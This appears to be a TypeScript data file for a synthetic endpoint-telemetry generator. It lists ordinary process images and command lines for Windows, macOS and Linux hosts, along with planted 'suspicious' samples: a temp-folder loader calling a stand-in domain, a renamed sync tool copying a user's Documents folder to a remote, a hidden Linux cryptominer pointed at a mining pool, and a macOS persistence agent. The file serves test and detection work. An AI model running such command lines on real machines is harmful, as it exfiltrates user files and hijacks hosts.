// The catalogue of file images hosts run (each gets one sha256/md5 per
// tenant), the suspicious "sample" images that are spread over several hosts,
// and templates for one-off binaries seen on a single host.
import type { Platform } from './records/hosts.js';
import type { HostRole } from './meta.js';

export interface ImageSpec {
  key: string;
  platform: Platform;
  /** full path; {user} is the host's account */
  path: string;
  /** command lines; {path}, {user} and {n} (a small number) are filled in */
  cmds: readonly string[];
  roles: readonly HostRole[];
  /** only on servers with one of these roles (server hosts only) */
  serverRoles?: readonly string[];
  weight: number;
  /** runs for as long as the host is up */
  service?: boolean;
}

const WS: readonly HostRole[] = ['workstation'];
const SRV: readonly HostRole[] = ['server', 'dc'];
const ALL: readonly HostRole[] = ['workstation', 'server', 'dc'];

export const IMAGES: readonly ImageSpec[] = [
  // Windows
  { key: 'win:explorer', platform: 'Windows', path: 'C:\\Windows\\explorer.exe', cmds: ['C:\\WINDOWS\\Explorer.EXE'], roles: WS, weight: 10, service: true },
  { key: 'win:svchost', platform: 'Windows', path: 'C:\\Windows\\System32\\svchost.exe', cmds: ['C:\\WINDOWS\\system32\\svchost.exe -k netsvcs -p -s Schedule', 'C:\\WINDOWS\\system32\\svchost.exe -k LocalServiceNetworkRestricted -p -s Dhcp', 'C:\\WINDOWS\\System32\\svchost.exe -k NetworkService -p -s Dnscache'], roles: ALL, weight: 10, service: true },
  { key: 'win:chrome', platform: 'Windows', path: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', cmds: ['"{path}"', '"{path}" --type=renderer --lang=en-US --renderer-client-id={n}', '"{path}" --type=utility --utility-sub-type=network.mojom.NetworkService'], roles: WS, weight: 9 },
  { key: 'win:msedge', platform: 'Windows', path: 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe', cmds: ['"{path}" --single-argument https://intranet.example.com/', '"{path}" --type=renderer --renderer-client-id={n}'], roles: ALL, weight: 6 },
  { key: 'win:outlook', platform: 'Windows', path: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', cmds: ['"{path}"', '"{path}" /recycle'], roles: WS, weight: 8 },
  { key: 'win:winword', platform: 'Windows', path: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', cmds: ['"{path}" /n "C:\\Users\\{user}\\Documents\\Q{n} planning.docx"', '"{path}" /n "C:\\Users\\{user}\\Downloads\\Invoice_{n}.docx" /o ""'], roles: WS, weight: 5 },
  { key: 'win:excel', platform: 'Windows', path: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE', cmds: ['"{path}" "C:\\Users\\{user}\\OneDrive - Example Corp\\Budget FY{n}.xlsx"'], roles: WS, weight: 5 },
  { key: 'win:teams', platform: 'Windows', path: 'C:\\Program Files\\WindowsApps\\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe\\ms-teams.exe', cmds: ['"{path}" msteams:system-initiated'], roles: WS, weight: 7, service: true },
  { key: 'win:onedrive', platform: 'Windows', path: 'C:\\Users\\{user}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe', cmds: ['"{path}" /background'], roles: WS, weight: 6, service: true },
  { key: 'win:powershell', platform: 'Windows', path: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', cmds: ['powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\ProgramData\\IT\\inventory.ps1', '"C:\\WINDOWS\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoLogo', 'powershell.exe Get-Service | Where-Object Status -eq Running'], roles: ALL, weight: 4 },
  { key: 'win:cmd', platform: 'Windows', path: 'C:\\Windows\\System32\\cmd.exe', cmds: ['C:\\WINDOWS\\system32\\cmd.exe /c ipconfig /all', 'C:\\WINDOWS\\system32\\cmd.exe /c "gpupdate /force"', '"C:\\WINDOWS\\system32\\cmd.exe"'], roles: ALL, weight: 4 },
  { key: 'win:msmpeng', platform: 'Windows', path: 'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe', cmds: ['"{path}"'], roles: ALL, weight: 5, service: true },
  { key: 'win:zoom', platform: 'Windows', path: 'C:\\Users\\{user}\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe', cmds: ['"{path}" --url=zoommtg://example.zoom.us/join?confno={n}'], roles: WS, weight: 3 },
  { key: 'win:notepad', platform: 'Windows', path: 'C:\\Windows\\System32\\notepad.exe', cmds: ['"C:\\WINDOWS\\system32\\notepad.exe" C:\\Users\\{user}\\Desktop\\notes.txt'], roles: ALL, weight: 2 },
  { key: 'win:sqlservr', platform: 'Windows', path: 'C:\\Program Files\\Microsoft SQL Server\\MSSQL16.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe', cmds: ['"{path}" -sMSSQLSERVER'], roles: SRV, serverRoles: ['db'], weight: 30, service: true },
  { key: 'win:w3wp', platform: 'Windows', path: 'C:\\Windows\\System32\\inetsrv\\w3wp.exe', cmds: ['c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "DefaultAppPool" -v "v4.0" -l "webengine4.dll" -a \\\\.\\pipe\\iisipm{n}'], roles: SRV, serverRoles: ['web', 'app'], weight: 30, service: true },
  { key: 'win:lsass', platform: 'Windows', path: 'C:\\Windows\\System32\\lsass.exe', cmds: ['C:\\WINDOWS\\system32\\lsass.exe'], roles: SRV, weight: 5, service: true },
  { key: 'win:dns', platform: 'Windows', path: 'C:\\Windows\\System32\\dns.exe', cmds: ['C:\\WINDOWS\\system32\\dns.exe'], roles: ['dc'], weight: 40, service: true },
  { key: 'win:veeam', platform: 'Windows', path: 'C:\\Program Files\\Veeam\\Backup and Replication\\Backup\\Veeam.Backup.Service.exe', cmds: ['"{path}"'], roles: SRV, serverRoles: ['backup'], weight: 30, service: true },
  // macOS
  { key: 'mac:safari', platform: 'Mac', path: '/Applications/Safari.app/Contents/MacOS/Safari', cmds: ['/Applications/Safari.app/Contents/MacOS/Safari'], roles: WS, weight: 6 },
  { key: 'mac:chrome', platform: 'Mac', path: '/Applications/Google Chrome.app/Contents/MacOS/Google Chrome', cmds: ['/Applications/Google Chrome.app/Contents/MacOS/Google Chrome', '/Applications/Google Chrome.app/Contents/MacOS/Google Chrome --restore-last-session'], roles: WS, weight: 8 },
  { key: 'mac:slack', platform: 'Mac', path: '/Applications/Slack.app/Contents/MacOS/Slack', cmds: ['/Applications/Slack.app/Contents/MacOS/Slack'], roles: WS, weight: 7, service: true },
  { key: 'mac:zoom', platform: 'Mac', path: '/Applications/zoom.us.app/Contents/MacOS/zoom.us', cmds: ['/Applications/zoom.us.app/Contents/MacOS/zoom.us'], roles: WS, weight: 4 },
  { key: 'mac:teams', platform: 'Mac', path: '/Applications/Microsoft Teams.app/Contents/MacOS/MSTeams', cmds: ['/Applications/Microsoft Teams.app/Contents/MacOS/MSTeams'], roles: WS, weight: 5 },
  { key: 'mac:zsh', platform: 'Mac', path: '/bin/zsh', cmds: ['-zsh', '/bin/zsh -il'], roles: WS, weight: 5 },
  { key: 'mac:python3', platform: 'Mac', path: '/usr/bin/python3', cmds: ['/usr/bin/python3 -m pip install --user requests', '/usr/bin/python3 /Users/{user}/src/tools/report.py'], roles: WS, weight: 3 },
  { key: 'mac:softwareupdated', platform: 'Mac', path: '/System/Library/PrivateFrameworks/MobileSoftwareUpdate.framework/Support/softwareupdated', cmds: ['/System/Library/PrivateFrameworks/MobileSoftwareUpdate.framework/Support/softwareupdated'], roles: WS, weight: 4, service: true },
  { key: 'mac:curl', platform: 'Mac', path: '/usr/bin/curl', cmds: ['curl -sSL https://intranet.example.com/health', 'curl -O https://downloads.example.com/tool-{n}.tar.gz'], roles: WS, weight: 2 },
  // Linux
  { key: 'lin:sshd', platform: 'Linux', path: '/usr/sbin/sshd', cmds: ['sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups', '/usr/sbin/sshd -D'], roles: ALL, weight: 8, service: true },
  { key: 'lin:systemd-journald', platform: 'Linux', path: '/usr/lib/systemd/systemd-journald', cmds: ['/lib/systemd/systemd-journald'], roles: ALL, weight: 5, service: true },
  { key: 'lin:cron', platform: 'Linux', path: '/usr/sbin/cron', cmds: ['/usr/sbin/cron -f -P'], roles: ALL, weight: 4, service: true },
  { key: 'lin:bash', platform: 'Linux', path: '/usr/bin/bash', cmds: ['-bash', '/bin/bash /opt/scripts/backup.sh', 'bash -c "df -h && free -m"'], roles: ALL, weight: 4 },
  { key: 'lin:python3', platform: 'Linux', path: '/usr/bin/python3.10', cmds: ['/usr/bin/python3 /opt/app/worker.py --queue default', '/usr/bin/python3 -m http.server {n}'], roles: ALL, weight: 3 },
  { key: 'lin:curl', platform: 'Linux', path: '/usr/bin/curl', cmds: ['curl -fsS http://localhost:8080/healthz', 'curl -sL https://packages.example.com/repo.gpg'], roles: ALL, weight: 2 },
  { key: 'lin:nginx', platform: 'Linux', path: '/usr/sbin/nginx', cmds: ['nginx: master process /usr/sbin/nginx -g daemon on; master_process on;'], roles: SRV, serverRoles: ['web', 'api'], weight: 30, service: true },
  { key: 'lin:java', platform: 'Linux', path: '/usr/lib/jvm/java-17-openjdk-amd64/bin/java', cmds: ['/usr/bin/java -Xms1g -Xmx4g -jar /opt/app/service.jar --spring.profiles.active=prod', 'java -Xmx2g -cp /opt/kafka/libs/* kafka.Kafka /opt/kafka/config/server.properties'], roles: SRV, serverRoles: ['api', 'kafka', 'ci', 'log'], weight: 25, service: true },
  { key: 'lin:node', platform: 'Linux', path: '/usr/bin/node', cmds: ['node /srv/api/dist/server.js', '/usr/bin/node /opt/app/index.js --port 3000'], roles: SRV, serverRoles: ['api', 'web'], weight: 12, service: true },
  { key: 'lin:postgres', platform: 'Linux', path: '/usr/lib/postgresql/16/bin/postgres', cmds: ['/usr/lib/postgresql/16/bin/postgres -D /var/lib/postgresql/16/main -c config_file=/etc/postgresql/16/main/postgresql.conf'], roles: SRV, serverRoles: ['db'], weight: 30, service: true },
  { key: 'lin:redis', platform: 'Linux', path: '/usr/bin/redis-server', cmds: ['/usr/bin/redis-server 127.0.0.1:6379'], roles: SRV, serverRoles: ['cache'], weight: 30, service: true },
  { key: 'lin:dockerd', platform: 'Linux', path: '/usr/bin/dockerd', cmds: ['/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock'], roles: SRV, serverRoles: ['ci', 'api', 'web'], weight: 10, service: true },
  { key: 'lin:kubelet', platform: 'Linux', path: '/usr/bin/kubelet', cmds: ['/usr/bin/kubelet --config=/var/lib/kubelet/config.yaml --kubeconfig=/etc/kubernetes/kubelet.conf'], roles: SRV, serverRoles: ['k8s'], weight: 30, service: true },
  { key: 'lin:containerd', platform: 'Linux', path: '/usr/bin/containerd', cmds: ['/usr/bin/containerd'], roles: SRV, serverRoles: ['k8s', 'ci'], weight: 20, service: true },
];

/** Suspicious images that the tenant's sample values point at. */
export interface SampleImage {
  key: string;
  platform: Platform;
  path: string;
  cmd: string;
}

export const SAMPLE_IMAGES = {
  /** a loader dropped in the user's temp folder (sample sha256 #1) */
  loader: { key: 'sample:loader', platform: 'Windows', path: 'C:\\Users\\{user}\\AppData\\Local\\Temp\\WinUpdateHelper.exe', cmd: '"{path}" /silent /check update-check.example-cdn.net' },
  /** a renamed cloud-sync tool used for exfiltration (sample sha256 #2) */
  exfil: { key: 'sample:exfil', platform: 'Windows', path: 'C:\\ProgramData\\svcmgr\\svcmgr.exe', cmd: '"{path}" copy C:\\Users\\{user}\\Documents remote:archive --transfers 16 --no-check-certificate' },
  /** a cryptominer on Linux servers (sample sha256 #3) */
  miner: { key: 'sample:miner', platform: 'Linux', path: '/tmp/.X11-unix/kdevtmpfsi', cmd: '/tmp/.X11-unix/kdevtmpfsi -o pool.example-mining.net:3333 --donate-level 1 -B' },
  /** a macOS persistence agent (sample md5) */
  agent: { key: 'sample:agent', platform: 'Mac', path: '/Users/Shared/.local/UpdateAgent', cmd: '/Users/Shared/.local/UpdateAgent --daemon --interval 300' },
} as const satisfies Record<string, SampleImage>;

export const SAMPLE_DOMAINS = ['update-check.example-cdn.net', 'secure-login.example-auth.com'] as const;

/** Binaries seen on exactly one host; {hex} makes each name distinct. */
export const ONE_OFF_PATHS: Record<Platform, readonly string[]> = {
  Windows: ['C:\\Users\\{user}\\Downloads\\setup_{hex}.exe', 'C:\\Users\\{user}\\AppData\\Local\\Temp\\is-{hex}.tmp\\installer.exe', 'C:\\Tools\\{hex}\\diag.exe'],
  Mac: ['/Users/{user}/Downloads/helper-{hex}', '/private/var/folders/xy/{hex}/T/updater'],
  Linux: ['/opt/vendor/bin/agent-{hex}', '/home/{user}/bin/tool-{hex}', '/usr/local/bin/exporter-{hex}'],
};
